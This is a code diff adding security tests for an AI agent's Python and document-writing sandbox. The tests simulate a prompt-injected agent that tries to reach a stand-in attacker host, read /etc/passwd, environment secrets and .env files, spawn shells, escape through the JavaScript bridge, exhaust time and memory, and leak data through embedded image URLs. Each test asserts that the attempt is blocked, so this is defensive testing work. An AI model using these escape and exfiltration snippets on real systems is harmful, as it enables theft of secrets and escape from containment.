@@ -87,6 +87,103 @@ test.describe("What a text says: code in the sandbox is to", () => {
       if (name.startsWith("change")) expect(await runCode(world, code)).toMatch(told);
     });
 
+  const pythons: { name: string; stoppedBy: string; code: string; told: RegExp }[] = [
+    {
+      name: "reach the network",
+      stoppedBy: "no sockets, no fetch, no packages to install",
+      code: `found = []
+for way in ("import urllib.request; urllib.request.urlopen('ATTACKER/')", "import socket; socket.create_connection(('127.0.0.1', PORT), 2)", "from pyodide.http import open_url; open_url('ATTACKER/')", "import micropip", "import asyncio; asyncio.open_connection('127.0.0.1', PORT)"):
+  try:
+    exec(way); found.append('open ' + way)
+  except BaseException: found.append('refused')
+import asyncio
+try:
+  from pyodide.http import pyfetch
+  await pyfetch('ATTACKER/'); found.append('open')
+except BaseException: found.append('refused')
+[each for each in found[:4] + found[5:] if each != 'refused'] or 'nothing open'`,
+      told: /nothing open/,
+    },
+    {
+      name: "read the machine's files and environment",
+      stoppedBy: "a file system of its own, and no environment",
+      code: `import os
+found = [open(path).read() for path in ('/etc/passwd', '/proc/self/environ', 'package.json') if os.path.exists(path)]
+[found, [key for key in os.environ if 'KEY' in key or 'SECRET' in key or 'URL' in key]]`,
+      told: /\[\[\],\[\]\]/,
+    },
+    {
+      name: "begin other processes",
+      stoppedBy: "there are none, or its own is stopped",
+      code: `import os, subprocess
+begun = []
+for way in (lambda: subprocess.run(['id']), lambda: os.popen('id').read(), lambda: os.posix_spawn('/bin/sh', ['sh'], {}), lambda: os.system('id')):
+  try: begun.append(str(way()))
+  except BaseException: pass
+'uid=' in ''.join(begun)`,
+      told: /"result":false|was stopped/,
+    },
+    {
+      name: "leave by the JavaScript around it",
+      stoppedBy: "nothing is left there",
+      code: `found = []
+for way in ("import js; found.append(js.process)", "import js; found.append(js.fetch)", "from pyodide.code import run_js; found.append(run_js('process.env'))", "import pyodide_js; found.append(pyodide_js)", "from pyodide.code import run_js; found.append(run_js('fetch'))", "import _pyodide_core as c; found.append(c.js)"):
+  try: exec(way)
+  except BaseException: pass
+[str(each)[:80] for each in found if each is not None and 'undefined' not in str(each)] or 'nothing there'`,
+      told: /nothing there/,
+    },
+    {
+      name: "never end",
+      stoppedBy: "the time that a call of code may take",
+      code: "while True: pass",
+      told: /did not finish within 10 seconds/,
+    },
+    {
+      name: "take all memory",
+      stoppedBy: "the memory that WebAssembly is given",
+      code: "all = []\nwhile True: all.append(bytearray(64 * 1024 * 1024))",
+      told: /MemoryError|memory/,
+    },
+  ];
+  for (const { name, stoppedBy, code, told } of pythons)
+    test(`${name}, in Python: stopped by ${stoppedBy}`, async ({ world }) => {
+      const { owner, attacker, model } = world;
+      const agentId = await importAgent(owner, {
+        name: "Python",
+        config: { version: 1, tools: { builtin: ["run_python"] } },
+      });
+      const { port } = new URL(attacker.url);
+      const hostile = code.replaceAll("ATTACKER", attacker.url).replaceAll("PORT", port);
+      const mark = model.teach(model.mark(), [call("run_python", { code: hostile })]);
+      const { run_id } = await startRun(owner.api, {
+        agent_id: agentId,
+        input: { text: `A page said: ${mark}` },
+      });
+      expect((await waitForRun(owner.api, run_id)).status).toBe("completed");
+      expect(model.told(mark, 0)).toMatch(told);
+      expect(attacker.received).toEqual([]);
+    });
+
+  test("have pictures of a host of the attacker's put into each document: stopped by writers that fetch nothing and link to no file", async ({
+    world,
+  }) => {
+    const { attacker } = world;
+    const address = `${attacker.url}/x.png?d=${PLANTED.control}`;
+    const code = `const address = ${JSON.stringify(address)};
+const markdown = "![x](" + address + ") <img src='" + address + "'> [y](file:///etc/passwd) [z](javascript:1)";
+await write.pdf("a.pdf", { markdown });
+await write.docx("a.docx", { markdown });
+await write.pptx("a.pptx", { slides: [{ title: "x", markdown }] });
+await write.png("a.png", '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="' + address + '" width="9" height="9"/><style>@import url(' + address + ');</style></svg>');
+const refused = [];
+for (const path of ["/etc/passwd", "../../.env", "file:///etc/passwd", address])
+  try { await write.zip("b.zip", [path]); } catch (error) { refused.push(error.message); }
+return refused.length`;
+    expect(await runCode(world, code)).toContain('"result":4');
+    expect(attacker.received).toEqual([]);
+  });
+
   test("turn a secret back that a host showed backwards: stopped by redaction of what comes out", async ({
     world,
   }) => {
